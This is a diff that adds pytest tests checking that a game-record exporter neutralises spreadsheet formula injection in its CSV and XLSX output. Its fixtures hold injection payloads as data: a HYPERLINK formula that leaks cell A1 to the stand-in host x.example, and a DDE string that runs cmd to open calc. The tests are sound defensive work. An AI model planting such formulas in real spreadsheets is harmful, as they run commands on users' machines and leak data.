@@ -202,6 +202,55 @@ def test_the_xlsx_export_writes_names_as_text_never_formulas(tmp_path: Path) -> 
         assert "<f>" not in book.read(SHEET_PART).decode()
 
 
+# Tables of n (the per-player layout, interop/sheets/players.py): the same rule for every
+# player_i cell and the sitting's labels. The expected cells are written out by hand from
+# OWASP's rule: a ' in front of a cell that begins, after any apostrophes, with = + - @.
+TABLES_OF_N = [
+    ("cutthroat-game.json", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "'=x"],
+     ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+1", "''=x"]),
+    ("five-handed-game.json", ["-2+3", "@SUM(1)", "''+y", "'t Hooft", "=1+2"],
+     ["'-2+3", "'@SUM(1)", "'''+y", "'t Hooft", "'=1+2"]),
+]
+CLUB = "=cmd|' /C calc'!A0"
+
+
+def _table_of_n(tmp_path: Path, example: str, names: list[str]) -> Path:
+    data = json.loads((ROOT / "examples" / example).read_text(encoding="utf-8"))
+    data["players"] = {str(i): {"name": n} for i, n in enumerate(names)}
+    data["event"]["club"] = CLUB
+    path = tmp_path / example
+    path.write_text(json.dumps(data), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("example, names, written", TABLES_OF_N)
+def test_formula_names_at_tables_of_n_are_neutralised_in_the_csv_export(
+        tmp_path: Path, example: str, names: list[str], written: list[str]) -> None:
+    out = CliRunner().invoke(main, ["export", str(_table_of_n(tmp_path, example, names)),
+                                    "--to", "csv"])
+    assert out.exit_code == 0, out.output
+    row = next(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["seats"] == str(len(names))
+    assert [row[f"player_{i}"] for i in range(len(names))] == written
+    assert row["club"] == "'" + CLUB
+    assert not re.search(r'(^|,)"?[=+@-]', out.stdout, re.M)   # no bare formula cell anywhere
+
+
+@pytest.mark.parametrize("example, names, written", TABLES_OF_N)
+def test_the_xlsx_export_at_tables_of_n_writes_names_as_text(
+        tmp_path: Path, example: str, names: list[str], written: list[str]) -> None:
+    out = CliRunner().invoke(main, ["export", str(_table_of_n(tmp_path, example, names)),
+                                    "--to", "xlsx"])
+    assert out.exit_code == 0, out.output
+    sheet = openpyxl.load_workbook(io.BytesIO(out.stdout_bytes)).worksheets[0]
+    cells = {h.value: c for h, c in zip(sheet[1], sheet[2])}
+    for i, name in enumerate(names):
+        assert cells[f"player_{i}"].data_type == "s" and cells[f"player_{i}"].value == name
+    assert cells["club"].value == CLUB
+    with zipfile.ZipFile(io.BytesIO(out.stdout_bytes)) as book:
+        assert "<f>" not in book.read(SHEET_PART).decode()
+
+
 def test_every_csv_format_output_neutralises_formula_cells(tmp_path: Path) -> None:
     db = str(tmp_path / "c.db")
     (tmp_path / "r.json").write_text(json.dumps(_record(["=1+1", "Bob", "Cy", "Di"])))
